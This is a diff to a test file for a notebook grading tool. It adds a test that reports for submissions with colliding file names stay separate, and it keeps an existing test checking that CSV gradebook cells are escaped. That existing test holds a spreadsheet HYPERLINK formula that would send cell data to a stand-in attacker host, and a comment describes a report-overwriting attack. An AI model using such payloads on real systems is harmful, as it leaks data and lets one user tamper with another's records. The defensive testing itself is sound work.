@@ -14,7 +14,7 @@ import { libKeyOf, LibView } from '../../lib/exercises/cell';
 import { helpersFor, topLevelNames, withHelpers } from '../../lib/exercises/helpers';
 import { ExercisePolicyError, libUseMessage } from '../../lib/exercises/policy';
 import { fixtureSpecs } from './fixtures/specs';
-import { gradebookCsv, reportFileName, submissionReport } from '../../lib/grading/report';
+import { gradebookCsv, reportFileName, submissionReport, writeOutputs } from '../../lib/grading/report';
 import { emptyNotebook, splitSource, type NotebookCell } from '../../lib/notebook/ipynb';
 import { collectSubmissions, parseArgs } from '../../scripts/grade';
 
@@ -178,6 +178,23 @@ describe('grading parts', () => {
       expect(csv.find((r) => r.includes('@SUM'))).to.match(/,'-2\+3$/);
       expect(csv.find((r) => r.includes('HYPERLINK'))).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1,""open me"").ipynb",0,1,1,3,`);
       expect(gradebookCsv([grade('b.ipynb')]).trim().split('\n')[1]).to.equal('b.ipynb,0,1,1,3,');
+    });
+
+    it('reports of submissions whose names flatten alike stay apart (a learner cannot overwrite another\'s report)', () => {
+      // attack: the victim submits class/alice.ipynb; the attacker names a file class__alice.ipynb (or "class alice",
+      // "class_alice"), which flattened to the same report name and replaced the victim's report with the attacker's
+      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'reports-'));
+      try {
+        const names = ['class/alice.ipynb', 'class__alice.ipynb', 'class_alice.ipynb', 'class alice.ipynb', 'CLASS/ALICE.ipynb'];
+        const out = writeOutputs(names.map((n, i) => grade(n, i === 0 ? undefined : 'attacker')), dir);
+        expect(new Set(out.reports).size, out.reports.join(' ')).to.equal(names.length);
+        expect(fs.readdirSync(path.join(dir, 'reports')).length).to.equal(names.length);
+        // each file holds its own submission's report
+        out.reports.forEach((f, i) => expect(fs.readFileSync(f, 'utf8'), f).to.contain(names[i]));
+        expect(path.basename(out.reports[0])).to.equal('class__alice.md'); // an unclashing name is kept as it was
+      } finally {
+        fs.rmSync(dir, { recursive: true, force: true });
+      }
     });
 
     it('Markdown: totals, every check with its reason and the known mistake, escaped table cells, the output', () => {
